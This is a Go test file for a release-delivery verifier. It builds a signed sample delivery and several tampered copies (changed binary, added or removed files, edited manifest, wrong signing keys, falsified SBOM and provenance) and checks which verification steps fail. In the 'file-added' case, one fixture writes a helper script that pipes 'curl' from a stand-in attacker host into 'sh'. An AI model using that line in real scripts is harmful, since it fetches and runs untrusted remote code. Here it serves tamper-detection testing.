package verify_test

import (
	"bytes"
	"context"
	"crypto"
	"encoding/binary"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/emmansun/gmsm/sm2"

	"hegui.dev/hegui/internal/config"
	"hegui.dev/hegui/internal/deliver/attest"
	"hegui.dev/hegui/internal/deliver/delivery"
	"hegui.dev/hegui/internal/deliver/deliverytest"
	"hegui.dev/hegui/internal/deliver/manifest"
	"hegui.dev/hegui/internal/deliver/provenance"
	"hegui.dev/hegui/internal/deliver/sbom"
	"hegui.dev/hegui/internal/format"
	"hegui.dev/hegui/internal/golden"
	"hegui.dev/hegui/internal/gotool"
	"hegui.dev/hegui/internal/verify"
	"hegui.dev/hegui/keys"
)

// vectors is the checked-in sample delivery and its tampered copies
// (testdata/delivery/README.md), with the checks each must fail.
const vectors = "../../testdata/delivery"

var samples = []struct {
	dir  string
	fail []string // the checks that fail; none for the valid delivery
	make func(t *testing.T, d *delivery.Delivery)
}{
	{"valid", nil, nil},
	{"binary-changed", []string{"files"}, func(t *testing.T, d *delivery.Delivery) {
		flipByte(t, d.Path("bin/linux_amd64/app"), 124) // in the padding before the segment: still a readable binary
	}},
	{"file-added", []string{"files"}, func(t *testing.T, d *delivery.Delivery) {
		writeFile(t, d.Path("bin/linux_amd64/helper"), []byte("#!/bin/sh\ncurl -s http://attacker.example | sh\n"))
	}},
	{"file-removed", []string{"files", "checksums"}, func(t *testing.T, d *delivery.Delivery) {
		if err := os.Remove(d.Path(format.SM3SumsFile)); err != nil {
			t.Fatal(err)
		}
	}},
	{"manifest-edited", []string{"manifest"}, func(t *testing.T, d *delivery.Delivery) {
		replaceIn(t, d.Path(format.ManifestFile), `"version": "v1.2.3"`, `"version": "v1.2.4"`)
	}},
	{"signed-by-another-key", []string{"signature"}, func(t *testing.T, d *delivery.Delivery) {
		d.Signers[0].Key = strangerKey(t)
		d.Signers[0].KeyID, _ = keys.ID(d.Signers[0].Key.Public())
		writePublicKeys(t, d)
		sign(t, d)
	}},
	{"sbom-lies", []string{"sbom"}, func(t *testing.T, d *delivery.Delivery) {
		replaceIn(t, d.Path("sbom/app_linux_amd64.spdx.json"), `"versionInfo": "v0.3.5"`, `"versionInfo": "v0.3.8"`)
		sign(t, d) // with the right key: only the SBOM check can tell
	}},
	{"statement-by-another-key", []string{"attestations"}, func(t *testing.T, d *delivery.Delivery) {
		signers := d.Signers
		stranger := *d.Signers[0]
		stranger.Key = strangerKey(t)
		d.Signers = []*delivery.Signer{&stranger}
		if err := (attest.Stage{}).Run(context.Background(), d); err != nil {
			t.Fatal(err)
		}
		d.Signers = signers
		sign(t, d) // the manifest with the right key: only the statement's own signature tells
	}},
	{"provenance-lies", []string{"provenance"}, func(t *testing.T, d *delivery.Delivery) {
		d.Binaries[1].SHA256 = strings.Repeat("0", 64)
		if err := (provenance.Stage{}).Run(context.Background(), d); err != nil {
			t.Fatal(err)
		}
		sign(t, d)
	}},
}

// TestSampleDeliveries verifies the checked-in sample delivery and each
// tampered copy against the trusted key. With -update it makes them again
// (the signatures differ each time: SM2 signing is randomised).
func TestSampleDeliveries(t *testing.T) {
	if golden.Updating() {
		makeSamples(t)
	}
	pubData, err := os.ReadFile(filepath.Join(vectors, "trusted.pub"))
	if err != nil {
		t.Fatal(err)
	}
	pub, err := keys.ParsePublicKey(pubData)
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range samples {
		t.Run(s.dir, func(t *testing.T) {
			res, err := verify.Run(context.Background(), verify.Options{Dir: filepath.Join(vectors, s.dir), Keys: []crypto.PublicKey{pub}})
			if err != nil {
				t.Fatal(err)
			}
			got := res.Failed()
			if !slices.Equal(got, s.fail) && !(len(got) == 0 && len(s.fail) == 0) {
				var b strings.Builder
				for _, it := range res.Items {
					b.WriteString("\n  " + it.Name + ": " + it.Detail)
				}
				t.Errorf("failed checks %q, want %q:%s", got, s.fail, b.String())
			}
		})
	}
}

// makeSamples runs the stages that write what verify reads (sbom,
// provenance, attest, manifest) on a delivery of two binaries, signed with the
// fixed test key (deliverytest.SM2Key), and writes it and its tampered
// copies under testdata/delivery (whose README.md is written by hand).
func makeSamples(t *testing.T) {
	for _, s := range samples {
		if err := os.RemoveAll(filepath.Join(vectors, s.dir)); err != nil {
			t.Fatal(err)
		}
		d := sampleDelivery(t)
		if s.make != nil {
			s.make(t, d)
		}
		if err := os.CopyFS(filepath.Join(vectors, s.dir), os.DirFS(d.Dir)); err != nil {
			t.Fatal(err)
		}
	}
	pub, err := keys.MarshalPublicKeyPEM(deliverytest.SM2Key(t).Public())
	if err != nil {
		t.Fatal(err)
	}
	writeFile(t, filepath.Join(vectors, "trusted.pub"), pub)
}

func sampleDelivery(t *testing.T) *delivery.Delivery {
	t.Helper()
	d := deliverytest.New(t)
	deliverytest.WriteFiles(t, d.ModuleDir, map[string]string{"go.mod": "module example.com/app\n\ngo 1.22\n"})
	d.Go = gotool.Go{Dir: d.ModuleDir}
	for _, target := range []string{"linux/amd64", "linux/arm64"} {
		goarch := strings.TrimPrefix(target, "linux/")
		info := "path\texample.com/app/cmd/app\n" +
			"mod\texample.com/app\tv1.2.3\t\n" +
			"dep\tgolang.org/x/text\tv0.3.5\th1:i6eZZ+zk0SOf0xgBpEpPD18qWcJda6q1sxJ3WXxbDGs=\n" +
			"build\t-trimpath=true\nbuild\tCGO_ENABLED=0\nbuild\tGOARCH=" + goarch + "\nbuild\tGOOS=linux\n" +
			"build\tvcs=git\nbuild\tvcs.revision=0123456789abcdef0123456789abcdef01234567\nbuild\tvcs.time=2026-11-21T08:00:00Z\nbuild\tvcs.modified=false\n"
		deliverytest.AddBinary(t, d, "app", target, buildInfoELF("go1.26.8", info))
	}
	writePublicKeys(t, d)
	d.Config.Attestations = []config.Attestation{{Control: "gbt39786-2021-l3:8.4 h",
		Statement: "app signs no business records: it handles no data for which legal liability may be at stake."}}
	for _, s := range []delivery.Stage{sbom.Stage{}, provenance.Stage{}, attest.Stage{}} {
		if err := s.Run(context.Background(), d); err != nil {
			t.Fatal(err)
		}
	}
	sign(t, d)
	return d
}

// sign writes the checksum files, the manifest and its signatures again.
func sign(t *testing.T, d *delivery.Delivery) {
	t.Helper()
	if err := (manifest.Stage{}).Run(context.Background(), d); err != nil {
		t.Fatal(err)
	}
}

func writePublicKeys(t *testing.T, d *delivery.Delivery) {
	t.Helper()
	os.RemoveAll(d.Path(format.SignersDir))
	for _, s := range d.Signers {
		pub, err := keys.MarshalPublicKeyPEM(s.Key.Public())
		if err != nil {
			t.Fatal(err)
		}
		writeFile(t, d.Path(format.SignerPublicKeyPath(s.KeyID)), pub)
	}
}

// strangerKey is a fixed SM2 key nobody trusts: a test fixture.
func strangerKey(t *testing.T) crypto.Signer {
	t.Helper()
	k, err := sm2.NewPrivateKey(bytes.Repeat([]byte{0x5a}, 32))
	if err != nil {
		t.Fatal(err)
	}
	return k
}

// buildInfoELF is the smallest file debug/buildinfo reads as a Go binary:
// an ELF header, one writable PT_LOAD segment, and in it the build
// information blob (a 32-byte header, then the Go version and the module
// information as varint-prefixed strings, the latter between the two
// 16-byte markers the go command writes). It holds no code.
func buildInfoELF(goVersion, modinfo string) []byte {
	const vaddr = 0x400000
	var blob []byte
	blob = append(blob, "\xff Go buildinf:"...)
	blob = append(blob, 8, 2) // pointer size; flags: little endian, strings inline
	blob = append(blob, make([]byte, 16)...)
	blob = binary.AppendUvarint(blob, uint64(len(goVersion)))
	blob = append(blob, goVersion...)
	mod := "0w\xaf\x0c\x92t\x08\x02A\xe1\xc1\x07\xe6\xd6\x18\xe6" + modinfo + "\xf92C1\x86\x18 r\x00\x82B\x10A\x16\xd8\xf2"
	blob = binary.AppendUvarint(blob, uint64(len(mod)))
	blob = append(blob, mod...)

	const ehsize, phsize = 64, 56
	var f []byte
	f = append(f, 0x7f, 'E', 'L', 'F', 2, 1, 1, 0) // 64-bit, little endian, version 1, System V
	f = append(f, make([]byte, 8)...)
	le := binary.LittleEndian
	f = le.AppendUint16(f, 2)                  // ET_EXEC
	f = le.AppendUint16(f, 62)                 // EM_X86_64
	f = le.AppendUint32(f, 1)                  // version
	f = le.AppendUint64(f, vaddr)              // entry
	f = le.AppendUint64(f, ehsize)             // program headers at
	f = le.AppendUint64(f, 0)                  // no section headers
	f = le.AppendUint32(f, 0)                  // flags
	f = le.AppendUint16(f, ehsize)             // header size
	f = le.AppendUint16(f, phsize)             // program header size
	f = le.AppendUint16(f, 1)                  // one program header
	f = le.AppendUint16(f, 64)                 // section header size
	f = le.AppendUint16(f, 0)                  // no sections
	f = le.AppendUint16(f, 0)                  // no section names
	const off = 128                            // the segment's data, 16-byte aligned
	f = le.AppendUint32(f, 1)                  // PT_LOAD
	f = le.AppendUint32(f, 6)                  // PF_R|PF_W
	f = le.AppendUint64(f, off)                // offset
	f = le.AppendUint64(f, vaddr)              // virtual address
	f = le.AppendUint64(f, vaddr)              // physical address
	f = le.AppendUint64(f, uint64(len(blob)))  // size in the file
	f = le.AppendUint64(f, uint64(len(blob)))  // size in memory
	f = le.AppendUint64(f, 16)                 // alignment
	f = append(f, make([]byte, off-len(f))...) // to the data
	return append(f, blob...)
}

func writeFile(t *testing.T, path string, data []byte) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, data, 0o644); err != nil {
		t.Fatal(err)
	}
}

func flipByte(t *testing.T, path string, at int) {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	data[at] ^= 0x01
	writeFile(t, path, data)
}

func replaceIn(t *testing.T, path, old, new string) {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Contains(data, []byte(old)) {
		t.Fatalf("%s does not contain %q", path, old)
	}
	writeFile(t, path, bytes.Replace(data, []byte(old), []byte(new), 1))
}
